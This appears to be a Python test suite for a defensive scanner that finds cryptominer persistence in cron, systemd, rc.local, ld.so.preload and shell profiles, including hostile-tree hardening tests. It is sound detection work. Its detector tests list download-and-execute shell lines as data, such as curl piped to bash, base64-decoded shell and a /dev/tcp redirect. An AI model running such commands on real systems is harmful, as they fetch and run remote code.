"""Persistence collectors against planted trees, including hostile ones."""

from __future__ import annotations

import json
import os
import shutil
import stat
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from netdetect.agent.persistence import (
    Limits,
    Needles,
    collect_persistence,
    is_download_exec,
    mentions_miner,
)
from netdetect.agent.schema import PersistenceEntry

from .helpers_persistence import MINER, MINER_CMD, POOL, plant, write


def needles() -> Needles:
    return Needles.build(exe=MINER, cmdline=MINER_CMD.split(), pool_host=POOL)


def by_place(entries: list[PersistenceEntry]) -> dict[tuple[str, int], PersistenceEntry]:
    return {(e.path, e.line): e for e in entries}


@pytest.fixture
def planted(tmp_path: Path) -> dict[tuple[str, int], PersistenceEntry]:
    plant(tmp_path)
    entries, errors = collect_persistence(str(tmp_path), needles())
    assert errors == []
    return by_place(entries)


def test_system_crontab(planted: dict[tuple[str, int], PersistenceEntry]) -> None:
    miner = planted[("/etc/crontab", 5)]
    assert miner.kind == "cron"
    assert miner.technique == "T1053.003"
    assert miner.references_process
    assert not miner.download_exec
    assert not miner.reboot
    assert miner.text.startswith("*/10 * * * * root /tmp/xmrig-test-dir/xmrig")
    assert miner.mtime > 0
    loader = planted[("/etc/crontab", 6)]
    assert loader.download_exec
    assert not loader.references_process
    # The run-parts line and the environment lines are an ordinary host's, not a report's.
    assert ("/etc/crontab", 4) not in planted
    assert ("/etc/crontab", 1) not in planted


def test_reboot_entry_matched_through_its_script(
        planted: dict[tuple[str, int], PersistenceEntry]) -> None:
    e = planted[("/etc/cron.d/sysupdate", 2)]
    assert e.reboot
    assert e.references_process  # run.sh starts ./xmrig: the miner's basename
    assert e.via == "/opt/x/run.sh"
    assert e.technique == "T1053.003"
    assert ("/etc/cron.d/logrotate", 1) not in planted


def test_user_crontabs(planted: dict[tuple[str, int], PersistenceEntry]) -> None:
    bob = planted[("/var/spool/cron/crontabs/bob", 2)]
    assert bob.via == "/opt/x/run.sh"
    assert bob.references_process
    assert ("/var/spool/cron/crontabs/bob", 3) not in planted
    rhel = planted[("/var/spool/cron/root", 1)]
    assert rhel.download_exec
    assert rhel.kind == "cron"


def test_cron_period_dirs_and_anacron(planted: dict[tuple[str, int], PersistenceEntry]) -> None:
    hourly = planted[("/etc/cron.hourly/0anacron", 2)]
    assert hourly.download_exec
    assert hourly.technique == "T1053.003"
    assert ("/etc/cron.daily/apt-compat", 2) not in planted
    ana = planted[("/etc/anacrontab", 3)]
    assert ana.kind == "anacron"
    assert ana.technique == "T1053.003"
    assert ana.references_process
    assert ("/etc/anacrontab", 2) not in planted


def test_systemd_service_and_timer(planted: dict[tuple[str, int], PersistenceEntry]) -> None:
    svc = planted[("/etc/systemd/system/sysguard.service", 7)]
    assert svc.kind == "systemd-service"
    assert svc.technique == "T1543.002"
    assert svc.references_process
    assert svc.reboot  # WantedBy=multi-user.target
    assert "Restart=always" in svc.text
    assert "WantedBy=multi-user.target" in svc.text
    # ExecStartPre only makes the directory; its path alone is not the exe.
    assert ("/etc/systemd/system/sysguard.service", 6) not in planted
    timer = planted[("/etc/systemd/system/sysguard.timer", 4)]
    assert timer.kind == "systemd-timer"
    assert timer.technique == "T1053.006"
    assert timer.via == "/etc/systemd/system/sysguard.service"
    assert timer.references_process
    assert "OnCalendar=*:0/5" in timer.text
    assert all("ssh.service" not in p and "apt-daily" not in p for p, _ in planted)
    user = planted[("/home/bob/.config/systemd/user/dbus-helper.service", 2)]
    assert user.references_process
    assert not user.reboot


def test_rc_preload_and_profiles(planted: dict[tuple[str, int], PersistenceEntry]) -> None:
    rc = planted[("/etc/rc.local", 2)]
    assert rc.kind == "rc-local"
    assert rc.technique == "T1037.004"
    assert rc.reboot
    assert rc.references_process
    assert ("/etc/init.d/networking", 3) not in planted
    pre = planted[("/etc/ld.so.preload", 1)]
    assert pre.technique == "T1574.006"
    assert pre.text == "/usr/local/lib/libprocesshider.so"
    prof = planted[("/etc/profile.d/zz.sh", 1)]
    assert prof.kind == "shell-profile"
    assert prof.technique == "T1546.004"
    assert prof.download_exec
    home = planted[("/home/bob/.profile", 2)]
    assert home.references_process
    assert not any(p in ("/etc/profile", "/root/.bashrc", "/etc/profile.d/locale.sh")
                   for p, _ in planted)


def test_generic_programs_do_not_count_as_the_process(tmp_path: Path) -> None:
    write(tmp_path, "/etc/crontab", "* * * * * root /bin/sh -c 'bash /usr/local/bin/backup'\n")
    write(tmp_path, "/etc/cron.d/py", "* * * * * root python3 -m http.server\n")
    shell = Needles.build(exe="/bin/bash", cmdline=["bash", "-c", "sleep 1"])
    py = Needles.build(exe="/usr/bin/python3.11", cmdline=["python3", "-u", "/srv/app.py"])
    assert not shell
    for n in (shell, py):
        entries, errors = collect_persistence(str(tmp_path), n)
        assert entries == []
        assert errors == []
    # The interpreter's script, on the other hand, is distinctive.
    write(tmp_path, "/etc/cron.d/app", "@reboot root python3 /srv/app.py\n")
    entries, _ = collect_persistence(str(tmp_path), py)
    assert [(e.path, e.references_process) for e in entries] == [("/etc/cron.d/app", True)]


def test_pool_host_and_wallet_from_the_network_side(tmp_path: Path) -> None:
    wallet = "4" + "A" * 94
    write(tmp_path, "/etc/cron.d/a", f"* * * * * root /usr/local/bin/helper --to {POOL.upper()}\n")
    write(tmp_path, "/etc/cron.d/b", f"* * * * * root /usr/local/bin/helper {wallet}\n")
    entries, _ = collect_persistence(str(tmp_path), Needles.build(pool_host=POOL, wallet=wallet))
    assert sorted((e.path, e.references_process) for e in entries) == [
        ("/etc/cron.d/a", True), ("/etc/cron.d/b", True)]


def test_symlinks_resolve_inside_root(tmp_path: Path) -> None:
    # An absolute link is read relative to ROOT (as in a container image), and ".." cannot
    # climb out of it.
    write(tmp_path, "/srv/real-crontab", f"* * * * * root {MINER}\n")
    (tmp_path / "etc").mkdir(exist_ok=True)
    (tmp_path / "etc/crontab").symlink_to("/srv/real-crontab")
    (tmp_path / "etc/cron.d").mkdir()
    (tmp_path / "etc/cron.d/up").symlink_to("../../../../../../../../srv/real-crontab")
    entries, errors = collect_persistence(str(tmp_path), needles())
    assert errors == []
    assert {e.path for e in entries} == {"/etc/crontab"}  # the second link is the same file


# --- hostile trees --------------------------------------------------------------------------


def test_hostile_tree_does_not_crash(tmp_path: Path) -> None:
    big = f"*/2 * * * * root {MINER}\n" + ("# " + "x" * 98 + "\n") * 100_000  # 10 MB
    write(tmp_path, "/etc/crontab", big)
    cron_d = tmp_path / "etc/cron.d"
    cron_d.mkdir(parents=True)
    (cron_d / "loop-a").symlink_to("loop-b")
    (cron_d / "loop-b").symlink_to("loop-a")
    (cron_d / "garbage").write_bytes(os.urandom(64 * 1024) + b"\n* * * * * root curl x|sh\n")
    os.mkfifo(cron_d / "fifo")
    os.mknod(cron_d / "zero", stat.S_IFCHR | 0o600, os.makedev(1, 5))
    (cron_d / "adir").mkdir()
    (cron_d / "long").write_text("* * * * * root " + "curl " * 200_000 + "\n")
    write(tmp_path, "/etc/systemd/system/broken.service", b"\xff\xfe[Service]\nExecStart=\0\0\n")
    (tmp_path / "etc/systemd/system/masked.service").symlink_to("/dev/null")
    start = time.monotonic()
    entries, errors = collect_persistence(str(tmp_path), needles())
    assert time.monotonic() - start < 5.0
    places = by_place(entries)
    assert places[("/etc/crontab", 1)].references_process  # found before the cap
    assert any("/etc/crontab" in e and "examined the first" in e for e in errors)
    assert any("loop-a" in e and "symbolic links" in e for e in errors)
    assert any("fifo" in e and "not a regular file" in e for e in errors)
    assert any("zero" in e and "not a regular file" in e for e in errors)
    assert not any("masked" in e for e in errors)  # /dev/null is how systemd masks a unit
    garbage = [e for e in entries if e.path == "/etc/cron.d/garbage"]
    assert garbage
    assert garbage[-1].download_exec


USER = 1000  # a home's owner; the tests run as root, which may chown to anyone


def _user_home(root: Path) -> Path:
    home = root / "home/u"
    home.mkdir(parents=True)
    os.chown(home, USER, USER)
    return home


def _user_link(link: Path, target: str) -> None:
    link.symlink_to(target)
    os.lchown(link, USER, USER)


def test_user_links_do_not_lead_the_scan_out_of_the_home(tmp_path: Path) -> None:
    # The root agent must not read what a user points it at: /etc/secret stands for
    # /etc/shadow, with a line a miner's login would match.
    secret = write(tmp_path, "/etc/secret", f"miner:$6$salt$hash:{MINER}:0:99999:7:::\n")
    secret.chmod(0o600)
    home = _user_home(tmp_path)
    _user_link(home / ".profile", "/etc/secret")
    _user_link(home / ".bash_login", "../../etc/secret")
    (home / ".config").mkdir()
    os.chown(home / ".config", USER, USER)
    _user_link(home / ".config/systemd", "/etc/secret-units")
    write(tmp_path, "/etc/secret-units/user/leak.service", f"[Service]\nExecStart={MINER}\n")
    os.link(secret, home / ".zshrc")  # a hard link: the kernel may forbid it, root may not
    # A user's own link inside the home is still followed.
    own = write(tmp_path, "/home/u/.bashrc.real", f"{MINER} &\n")
    os.chown(own, USER, USER)
    _user_link(home / ".bashrc", ".bashrc.real")
    entries, errors = collect_persistence(str(tmp_path), needles())
    assert not any("secret" in e.path or "leak" in e.path for e in entries), entries
    assert not any("99999" in e.text for e in entries)
    assert [(e.path, e.text) for e in entries if e.path.startswith("/home")] == [
        ("/home/u/.bashrc", f"{MINER} &")]
    assert "persistence: /home/u/.profile: symbolic link leaves /home/u" in errors
    assert "persistence: /home/u/.bash_login: symbolic link leaves /home/u" in errors
    assert any(e.startswith("persistence: /home/u/.config/systemd/user: symbolic link leaves")
               for e in errors), errors
    assert any(e.startswith("persistence: /home/u/.zshrc: owned by uid 0") for e in errors)


def test_user_links_outside_homes_are_not_followed(tmp_path: Path) -> None:
    write(tmp_path, "/srv/secret", f"* * * * * root {MINER}\n")
    (tmp_path / "etc/cron.d").mkdir(parents=True)
    _user_link(tmp_path / "etc/cron.d/job", "/srv/secret")
    entries, errors = collect_persistence(str(tmp_path), needles())
    assert entries == []
    assert errors == [
        "persistence: /etc/cron.d/job: symbolic link owned by uid 1000 not followed"]


def test_fifos_and_devices_in_a_home_are_never_opened(tmp_path: Path) -> None:
    home = _user_home(tmp_path)
    os.mkfifo(home / ".profile")  # opening it for reading would block without a writer
    os.chown(home / ".profile", USER, USER)
    os.mknod(home / ".bashrc", stat.S_IFCHR | 0o666, os.makedev(1, 3))  # /dev/null's numbers
    (tmp_path / "dev").mkdir()
    os.mknod(tmp_path / "dev/zero", stat.S_IFCHR | 0o666, os.makedev(1, 5))
    _user_link(home / ".zshrc", "/dev/zero")
    before = _open_fds()
    start = time.monotonic()
    entries, errors = collect_persistence(str(tmp_path), needles())
    assert time.monotonic() - start < 5.0
    assert entries == []
    assert "persistence: /home/u/.profile: not a regular file" in errors
    assert "persistence: /home/u/.bashrc: not a regular file" in errors
    assert "persistence: /home/u/.zshrc: symbolic link leaves /home/u" in errors
    assert _open_fds() == before  # every handle the walk took was closed


def _open_fds() -> int:
    return len(list(Path("/proc/self/fd").iterdir()))


def test_a_directory_swapped_for_a_link_after_it_was_resolved_is_not_followed(
    tmp_path: Path,
) -> None:
    from netdetect.agent.persistence import _Walker

    write(tmp_path, "/srv/secret/crontab", f"* * * * * root {MINER}\n")
    write(tmp_path, "/etc/cron.d/job", "# nothing\n")
    walker = _Walker(str(tmp_path), Limits(), "", time.monotonic)
    real, _ = walker.resolve("/etc/cron.d/job")
    # The race the fd walk closes: the directory becomes a link between resolve and open.
    (tmp_path / "etc/cron.d").rename(tmp_path / "etc/cron.old")
    (tmp_path / "etc/cron.d").symlink_to(tmp_path / "srv/secret")
    (tmp_path / "srv/secret/job").write_text(f"* * * * * root {MINER}\n")
    with pytest.raises(OSError):
        walker.open_file("/etc/cron.d/job", real)


def test_caps_stop_the_walk(tmp_path: Path) -> None:
    cron_d = tmp_path / "etc/cron.d"
    cron_d.mkdir(parents=True)
    for i in range(300):
        (cron_d / f"f{i:03d}").write_text(f"* * * * * root {MINER}\n")
    entries, errors = collect_persistence(str(tmp_path), needles(),
                                          limits=Limits(dir_entries=100, entries=50))
    assert len(entries) == 50
    assert any("more than 100 entries" in e for e in errors)
    entries, errors = collect_persistence(str(tmp_path), needles(), limits=Limits(files=10))
    assert len(entries) == 10
    assert errors[-1] == "persistence: stopped early: file cap of 10 reached"
    entries, errors = collect_persistence(str(tmp_path), needles(), limits=Limits(seconds=0.0))
    assert entries == []
    assert "time budget" in errors[-1]


@pytest.fixture
def world_readable_tree() -> Iterator[Path]:
    # pytest's tmp_path sits under a 0700 directory that an unprivileged user cannot enter.
    root = Path(tempfile.mkdtemp(prefix="netdetect-persist-"))
    root.chmod(0o755)
    try:
        yield root
    finally:
        shutil.rmtree(root)


def test_unreadable_files_are_errors(world_readable_tree: Path) -> None:
    root = world_readable_tree
    write(root, "/etc/crontab", f"* * * * * root {MINER}\n")
    secret = write(root, "/etc/cron.d/secret", f"* * * * * root {MINER}\n")
    for d in (root / "etc", root / "etc/cron.d"):
        d.chmod(0o755)
    (root / "etc/crontab").chmod(0o644)
    secret.chmod(0o000)
    # Root reads anything: a forked copy of this process drops to "nobody" to meet a real
    # permission error, and sends its findings back through a pipe.
    rfd, wfd = os.pipe()
    pid = os.fork()
    if pid == 0:  # pragma: no cover - the child reports through the pipe only
        try:
            os.setgid(65534)
            os.setuid(65534)
            e, err = collect_persistence(str(root), Needles.build(exe=MINER))
            os.write(wfd, json.dumps([[x.path for x in e], err]).encode())
        finally:
            os._exit(0)
    os.close(wfd)
    with os.fdopen(rfd, "rb") as fh:
        out = fh.read()
    os.waitpid(pid, 0)
    paths, errors = json.loads(out)
    assert paths == ["/etc/crontab"]
    assert "persistence: /etc/cron.d/secret: Permission denied" in errors


# --- the text judges ------------------------------------------------------------------------


@pytest.mark.parametrize(
    "line",
    [
        "curl -fsSL http://x.y/i.sh | sh",
        "wget -q -O- http://1.2.3.4/a | bash",
        "(curl -s http://a/b||wget -q -O - http://a/b)|bash",
        "curl http://a/b | sudo /bin/bash -s",
        "echo ZWNobyBoaQ== | base64 -d | sh",
        "echo ZWNobyBoaQ== | base64 --decode | bash",
        'bash -c "$(curl -fsSL http://a/b)"',
        "bash <(curl -s http://a/b)",
        "curl -fsSL http://a/m -o /tmp/m && chmod +x /tmp/m && /tmp/m",
        "wget http://a/m -O /var/tmp/.m; chmod 755 /var/tmp/.m",
        "curl http://a/p.py | python3",
        "exec 3<>/dev/tcp/203.0.113.5/80",
    ],
)
def test_download_exec_positive(line: str) -> None:
    assert is_download_exec(line)


@pytest.mark.parametrize(
    "line",
    [
        "curl -fsS https://example.org/health > /dev/null",
        "wget -q https://example.org/file.tar.gz -O /srv/file.tar.gz",
        "base64 -d secret.b64 > /etc/key",
        "sh /usr/local/bin/backup.sh | logger -t backup",
        "cd / && run-parts --report /etc/cron.hourly",
        "chmod +x /opt/tool",
    ],
)
def test_download_exec_negative(line: str) -> None:
    assert not is_download_exec(line)


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("nohup ./xmrig -c config.json &", True),
        ("/opt/m -o stratum+tcp://x.y:3333", True),
        ("/opt/m --donate-level 1", True),
        ("/opt/m -o pool.supportxmr.com:443", True),
        ("/usr/sbin/logrotate /etc/logrotate.conf", False),
        ("/usr/bin/xmrig-exporter --port 9100", False),
    ],
)
def test_mentions_miner(line: str, expected: bool) -> None:
    assert mentions_miner(line) is expected


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=400))
def test_judges_total_on_any_text(text: str) -> None:
    assert isinstance(is_download_exec(text), bool)
    assert isinstance(mentions_miner(text), bool)
    assert isinstance(needles().references(text), bool)


@settings(max_examples=50, deadline=None)
@given(st.binary(max_size=4096))
def test_any_crontab_bytes(tmp_path_factory: pytest.TempPathFactory, data: bytes) -> None:
    root = tmp_path_factory.mktemp("fuzz")
    write(root, "/etc/crontab", data)
    write(root, "/etc/systemd/system/x.service", data)
    entries, errors = collect_persistence(str(root), needles())
    assert all(e.line >= 1 for e in entries)
    assert errors == []
